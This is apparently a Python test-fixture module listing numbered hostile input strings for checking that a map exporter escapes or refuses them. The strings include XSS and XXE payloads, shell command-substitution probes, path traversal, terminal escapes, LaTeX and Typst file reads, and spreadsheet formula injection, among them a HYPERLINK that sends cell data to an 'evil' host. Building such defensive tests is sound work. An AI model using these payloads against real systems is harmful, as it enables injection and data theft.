"""Texts that break careless writers, numbered as in the list of privacy §2.6.

What the format refuses (control characters, overrides, halves of characters, too much)
stands here too, so that a test can hold that it is refused.
"""

from __future__ import annotations

import functools
import re

from sos_map.model.declare import MAX_TEXT, TEXT_PATTERN

__all__ = ["VECTORS", "admitted", "longest"]

#: From so many characters on a text is tried by itself, not among others.
_LONG = 1_000

VECTORS: dict[int, tuple[str, ...]] = {
    1: ("<b>fet</b>",),
    2: ("<<b>x</b>>",),
    3: ('<TABLE><TR><TD HREF="javascript:alert(1)">x</TD></TR></TABLE>',),
    4: ('<IMG SRC="/etc/passwd"/>',),
    5: ("\\N",),
    6: ("\\G",),
    7: ("\\E \\T \\H \\L",),
    8: ("rad\\l vänster\\r",),
    9: ("slut\\",),
    10: ('"]; evil [label="ägd',),
    11: ('\\"]; evil2 [label="x',),
    12: ("a -> b; subgraph cluster_x {",),
    13: ("a|b{c}<p>d",),
    14: ("&lt;script&gt;",),
    15: ("&#x202e;txt",),
    16: ("x" * 16_383,),
    17: ("å" * 20_000,),
    18: ("ord " * 5_000,),
    19: ("<script>alert(1)</script>",),
    20: ('"><svg onload=alert(1)>',),
    21: ("' onmouseover='alert(1)",),
    22: ("</title><script>1</script>",),
    23: ("]]><x/><![CDATA[",),
    24: ("--><script>1</script><!--",),
    25: ("</script><script>1",),
    26: ("javascript:alert(1)",),
    27: ("java\nscript:alert(1)",),
    28: ("data:text/html,<script>1</script>",),
    29: ('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',),
    30: ("&xxe; &lol9; %p;",),
    31: ("{{7*7}} ${7*7} <%= 7 %> #{7}",),
    32: ("%s %(name)s {0} {name}",),
    33: ("=1+1",),
    34: ('=HYPERLINK("http://evil/?"&A1,"x")',),
    35: ("=cmd|'/C calc'!A0",),
    36: ("+1+1", "-1+1", "@SUM(A1)"),
    37: ("\t=1+1",),
    38: ("\r=1",),
    39: (" =1", "\u200b=1"),
    40: ("＝1+1",),
    41: (";=1+1", '",=1+1'),
    42: ("a\nb", "a\r\nb", "a\rb"),
    43: ("-5", "+46701234567", "007", "1E5", "1/2", "SEPT1"),
    44: ("_x000D_", "_x0041_"),
    45: ("x" * 32_768,),
    46: ("a\x00b",),
    47: ("a\x01b", "a\x0bb", "a\x0cb", "a\x1fb"),
    48: ("a\x7fb", "a\x85b", "a\x9bb"),
    49: ("\ud800", "\udfff\ud800"),
    50: ("\ufffe", "\uffff", "\U0001ffff"),
    51: ("\ufeffnamn",),
    52: ("a\u202egpj.exe",),
    53: ("\u2066a\u2067b",),
    54: ("محمد \u200f(12)",),
    55: ("A\u200bn\u200bna",),
    56: ("А\u0301nna", "Аnna"),
    57: ("Ａｎｎａ",),
    58: ("A\u030asa", "Åsa"),
    59: ("ﬁ ß İ ı ſ \u212a",),
    60: ("👩\u200d👩\u200d👧\u200d👦🏳\ufe0f\u200d🌈",),
    61: ("Z" + "\u0335\u0353\u0356" * 66 + "algo",),
    62: ("rad\u2028rad\u2029rad",),
    63: ("\x1b[2J\x1b[1;31m",),
    64: ("\x1b]0;titel\x07",),
    65: ("\x1b]52;c;aGVq\x07",),
    66: ("\x1b]8;;http://evil\x1b\\klick\x1b]8;;\x1b\\",),
    67: ("\x9b2J", "\x1bc"),
    68: ("OK: exporten är säker\rFEL",),
    69: ("[red]x[/red] [link=http://evil]y",),
    70: ("# Rubrik", "> citat", "- lista", "1. x", "# Rubrik\n> citat\n- lista\n1. x"),
    71: ("[x](javascript:alert(1))", "![x](http://evil/a.png)"),
    72: ("<http://evil>", "www.evil.se", "a@b.se"),
    73: ("```", "~~~", "`"),
    74: ("a|b\n---|---",),
    75: ("*_~^$\\",),
    76: ('#panic("x")', '#read("secret.txt")'),
    77: ('#import "@preview/cetz:0.2.2"',),
    78: ('"; #panic("y")',),
    79: ("= H", "$x$", "@ref", "<lbl>", "/*", "//", "~", "--"),
    80: ("\\input{/etc/passwd}", "\\write18{id}", "%", "^^5c"),
    81: ('"]; click A "javascript:1"',),
    82: ('%%{init:{"securityLevel":"loose"}}%%',),
    83: ('A@{ img: "https://evil/x.png" }',),
    84: ("<img src=x onerror=alert(1)>$$\\text{A}$$",),
    85: (
        "Möte\r\nATTENDEE:mailto:evil@x\r\nBEGIN:VALARM",
        "Möte\nATTENDEE:mailto:evil@x\nBEGIN:VALARM",
    ),
    86: ("\\n\\,\\;",),
    87: ("Anna\n0 @I2@ INDI\n1 NAME Evil",),
    88: ("@I1@", "@VOID@", "@@x", "@#DJULIAN@"),
    89: ("Anna /Hemlig/ Jr",),
    90: ("../../etc/passwd", "..\\..\\x"),
    91: ("CON", "nul.txt", "LPT1 ", "a."),
    92: ("-rf", "--output=/x", "@argsfile"),
    93: ("$(id)", "`id`", ";id", "|id", "%COMSPEC%", "!x"),
    94: ("file:///etc/passwd", "\\\\evil\\share"),
    95: ("C:evil:ads",),
    96: ("<w:p/>", '{ INCLUDEPICTURE "http://evil" }'),
    97: ("__proto__", "constructor", "toString"),
    98: ("__class__", "{x.__init__.__globals__}"),
    99: ("19790412-****", "7904121234"),
    100: ("Åsa på Storg. 12 (070 000 00 00)",),
    101: ("", " ", "\u3000", "\u00a0"),
    102: ("null", "true", "NaN", "1e999"),
    103: ("a" * 1_000_000,),
}


@functools.cache
def admitted() -> tuple[str, ...]:
    """Return the texts that a map may hold and that fit among others, in order."""
    return tuple(text for text in _all_admitted() if len(text) < _LONG)


@functools.cache
def longest() -> tuple[str, ...]:
    """Return the long texts that a map may hold; each fills pages by itself."""
    return tuple(text for text in _all_admitted() if len(text) >= _LONG)


def _all_admitted() -> list[str]:
    texts = [text for same in VECTORS.values() for text in same]
    return [t for t in texts if len(t) <= MAX_TEXT and _fits(t)]


def _fits(text: str) -> bool:
    halves = any("\ud800" <= character <= "\udfff" for character in text)
    return not halves and bool(re.match(TEXT_PATTERN, text))
